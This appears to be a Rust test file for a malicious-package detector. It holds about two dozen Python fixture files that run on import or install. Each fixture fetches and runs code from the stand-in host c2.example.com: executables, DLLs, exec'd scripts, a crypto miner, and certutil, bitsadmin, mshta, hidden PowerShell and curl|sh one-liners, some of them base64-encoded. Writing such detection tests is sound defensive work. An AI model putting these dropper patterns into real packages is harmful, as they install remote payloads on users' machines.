//! Programs and code fetched and run, in ever other ways.
#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use support::convicted;

#[test]
fn downloaded_programs() {
    convicted(
        70,
        &[
            (
                "dl1",
                &[(
                    "demo/__init__.py",
                    br#"import requests,subprocess,os
r=requests.get('https://c2.example.com/a.exe')
p=os.path.join(os.environ['TEMP'],'a.exe')
with open(p,'wb') as f:
    f.write(r.content)
subprocess.Popen(p)
"#,
                )],
            ),
            (
                "dl2",
                &[(
                    "demo/__init__.py",
                    br#"import urllib.request,os
urllib.request.urlretrieve('https://c2.example.com/a.exe','a.exe')
os.startfile('a.exe')
"#,
                )],
            ),
            (
                "dl3",
                &[(
                    "demo/__init__.py",
                    br#"import requests,os
class D:
    def get(self):
        self.p=os.getenv('APPDATA')+'\\u.exe'
        with open(self.p,'wb') as f:
            for c in requests.get('https://c2.example.com/a.exe',stream=True).iter_content(1024):
                f.write(c)
    def run(self):
        os.system('start '+self.p)
d=D()
d.get()
d.run()
"#,
                )],
            ),
            (
                "dl4",
                &[(
                    "demo/__init__.py",
                    br#"import requests,os,stat,tempfile,subprocess
def fetch(u):
    return requests.get(u).content
def save(b):
    fd,p=tempfile.mkstemp()
    os.write(fd,b)
    os.close(fd)
    os.chmod(p,0o755)
    return p
def go():
    subprocess.call([save(fetch('https://c2.example.com/x'))])
go()
"#,
                )],
            ),
            (
                "dl16",
                &[(
                    "demo/__init__.py",
                    br#"import requests,zipfile,io,os
z=zipfile.ZipFile(io.BytesIO(requests.get('https://c2.example.com/a.zip').content))
z.extractall('C:\\t')
os.startfile('C:\\t\\a.exe')
"#,
                )],
            ),
            (
                "dl18",
                &[(
                    "demo/__init__.py",
                    br#"import ctypes,urllib.request
urllib.request.urlretrieve('https://c2.example.com/a.dll','C:\\a.dll')
ctypes.CDLL('C:\\a.dll')
"#,
                )],
            ),
            (
                "m1",
                &[(
                    "demo/__init__.py",
                    br#"import subprocess,urllib.request,os
urllib.request.urlretrieve('https://c2.example.com/xmrig','/tmp/x')
os.chmod('/tmp/x',0o755)
subprocess.Popen(['/tmp/x','-o','stratum+tcp://pool.example.com:3333','-u','W'])
"#,
                )],
            ),
        ],
    );
}

#[test]
fn downloaded_code() {
    convicted(
        70,
        &[
            (
                "dl5",
                &[(
                    "demo/__init__.py",
                    br#"from urllib.request import urlopen
import sys,subprocess
c=urlopen('https://c2.example.com/x').read()
subprocess.Popen([sys.executable,'-c',c])
"#,
                )],
            ),
            (
                "dl8",
                &[(
                    "demo/__init__.py",
                    br#"import urllib.request,types,sys
m=types.ModuleType('x')
src=urllib.request.urlopen('https://c2.example.com/x.py').read()
exec(compile(src,'x','exec'),m.__dict__)
"#,
                )],
            ),
            (
                "dl9",
                &[(
                    "demo/__init__.py",
                    br#"import requests,importlib.util
open('/tmp/x.py','w').write(requests.get('https://c2.example.com/x.py').text)
s=importlib.util.spec_from_file_location('x','/tmp/x.py')
m=importlib.util.module_from_spec(s)
s.loader.exec_module(m)
"#,
                )],
            ),
            (
                "dl15",
                &[(
                    "setup.py",
                    br#"import tempfile,os,sys
t=tempfile.NamedTemporaryFile(delete=False)
t.write(b'''from urllib.request import urlopen as u;exec(u('https://c2.example.com/x').read())''')
t.close()
try: os.system(f"start {sys.executable.replace('.exe','w.exe')} {t.name}")
except: pass
"#,
                )],
            ),
            (
                "dl17",
                &[(
                    "demo/__init__.py",
                    br#"import asyncio,aiohttp
async def f():
    async with aiohttp.ClientSession() as s:
        async with s.get('https://c2.example.com/x') as r:
            exec(await r.text())
asyncio.run(f())
"#,
                )],
            ),
            (
                "a23",
                &[(
                    "demo/__init__.py",
                    br#"import requests as r
from builtins import exec as e
e(r.get('https://c2.example.com/x').content.decode())"#,
                )],
            ),
            (
                "a24",
                &[(
                    "demo/__init__.py",
                    br#"from urllib import request
import zlib,base64
exec(zlib.decompress(base64.b64decode(request.urlopen('https://c2.example.com/x').read())))"#,
                )],
            ),
            (
                "a26",
                &[(
                    "demo/__init__.py",
                    br#"import urllib.request,json
j=json.loads(urllib.request.urlopen('https://c2.example.com/x').read())
exec(j['code'])"#,
                )],
            ),
        ],
    );
}

#[test]
fn shell_commands() {
    convicted(70, &[
        ("dl10", &[
            ("demo/__init__.py", br#"import os
os.system('certutil -urlcache -f https://c2.example.com/a.exe a.exe && a.exe')
"#),
        ]),
        ("dl11", &[
            ("demo/__init__.py", br#"import os
os.system('bitsadmin /transfer j https://c2.example.com/a.exe C:\\a.exe & start C:\\a.exe')
"#),
        ]),
        ("dl12", &[
            ("demo/__init__.py", br#"import os
os.system('mshta https://c2.example.com/a.hta')
"#),
        ]),
        ("dl13", &[
            ("demo/__init__.py", br#"import subprocess
subprocess.Popen(['powershell','-w','hidden','-c','iwr https://c2.example.com/a.ps1 | iex'])
"#),
        ]),
        ("dl14", &[
            ("demo/__init__.py", br#"import subprocess
subprocess.run(['sh','-c','curl -s https://c2.example.com/x | sh'])
"#),
        ]),
        ("m18", &[
            ("demo/__init__.py", br#"import os;os.system('start /min cmd /c curl https://c2.example.com/a.bat -o %TEMP%\\a.bat ^&^& %TEMP%\\a.bat')
"#),
        ]),
        ("a27", &[
            ("demo/__init__.py", br#"import subprocess
subprocess.Popen('powershell -WindowStyle Hidden -Command "Invoke-WebRequest https://c2.example.com/a.exe -OutFile a.exe; Start-Process a.exe"',shell=True)"#),
        ]),
        ("a28", &[
            ("demo/__init__.py", br#"import os
if os.name=='nt':
    os.system('powershell -nop -w hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=')"#),
        ]),
        ("a29", &[
            ("demo/__init__.py", br#"import subprocess,base64
c=base64.b64decode('Y3VybCAtcyBodHRwczovL2MyLmV4YW1wbGUuY29tL3ggfCBzaA==').decode()
subprocess.run(c,shell=True)"#),
        ]),
    ]);
}
